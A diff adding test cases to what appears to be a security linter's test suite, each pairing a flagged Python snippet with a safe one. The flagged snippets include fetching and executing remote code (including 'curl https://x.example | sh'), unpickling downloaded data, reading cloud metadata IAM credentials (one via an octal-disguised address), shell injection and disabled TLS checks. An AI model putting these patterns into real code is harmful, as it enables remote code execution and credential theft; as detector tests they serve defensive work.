@@ -265,6 +265,54 @@ const pairs: readonly Pair[] = [
     bad: 'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="a", bash_command="play", env={"ANSIBLE_HOST_KEY_CHECKING": "False"})\n',
     good: 'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="a", bash_command="play", env={"ANSIBLE_HOST_KEY_CHECKING": "True", "TLS_CHECK_INTERVAL": "0"})\n',
   },
+  {
+    name: 'past what is done where it fails',
+    rule: 'downloaded-code',
+    bad: 'import requests\ndef f():\n    try:\n        c = requests.get("https://x.example").text\n    except OSError:\n        c = "pass"\n    exec(c)\n',
+    good: 'import requests\ndef f():\n    try:\n        c = requests.get("https://x.example").text\n    except OSError:\n        c = "pass"\n    print(c)\n',
+  },
+  {
+    name: 'in one case of several',
+    rule: 'downloaded-code',
+    bad: 'import os\ndef f(k):\n    match k:\n        case "a":\n            c = "curl https://x.example | sh"\n        case _:\n            c = "true"\n    os.system(c)\n',
+    good: 'import os\ndef f(k):\n    match k:\n        case "a":\n            c = "curl https://x.example | sha256sum"\n        case _:\n            c = "true"\n    os.system(c)\n',
+  },
+  {
+    name: 'at import by the key of an order',
+    rule: 'import-network',
+    bad: 'import requests\nORDER = sorted([1, 2], key=lambda n: requests.get(f"https://x.example/{n}").text)\n',
+    good: 'import requests\nORDER = sorted([1, 2], key=lambda n: -n)\n',
+  },
+  {
+    name: 'by a class that is made from one of the library',
+    rule: 'unsafe-deserialisation',
+    bad: 'import io, pickle, requests\nclass U(pickle.Unpickler):\n    pass\ndef f():\n    U(io.BytesIO(requests.get("https://x.example").content)).load()\n',
+    good: 'import io, pickle, requests\nclass U(pickle.Unpickler):\n    pass\ndef f():\n    U(io.BytesIO(b"x")).load()\n',
+  },
+  {
+    name: 'of a machine whose address is written another way',
+    rule: 'metadata-credentials',
+    bad: 'import requests\ndef f():\n    requests.get("http://0251.0376.0251.0376/latest/meta-data/iam/security-credentials/r")\n',
+    good: 'import requests\ndef f():\n    requests.get("http://0251.0376.0251.0376/latest/meta-data/placement/region")\n',
+  },
+  {
+    name: 'of a machine over a connection of its own',
+    rule: 'metadata-credentials',
+    bad: 'import http.client\ndef f():\n    c = http.client.HTTPConnection("169.254.169.254")\n    c.request("GET", "/latest/meta-data/iam/security-credentials/r")\n',
+    good: 'import http.client\ndef f():\n    c = http.client.HTTPConnection("169.254.169.254")\n    c.request("PUT", "/latest/api/token")\n',
+  },
+  {
+    name: 'in what the context is asked for',
+    rule: 'shell-injection',
+    bad: 'import os\ndef f(**context):\n    os.system("ls " + context.get("params").get("d"))\n',
+    good: 'import os\ndef f(**context):\n    os.system("ls " + context.get("ds"))\n',
+  },
+  {
+    name: 'by an attribute that is set by its name',
+    rule: 'tls-disabled',
+    bad: 'import requests\ndef f():\n    s = requests.Session()\n    setattr(s, "verify", False)\n',
+    good: 'import requests\ndef f():\n    s = requests.Session()\n    setattr(s, "verify", True)\n',
+  },
 ];
 
 describe('a danger is followed as far as a reviewer would, and no further', () => {
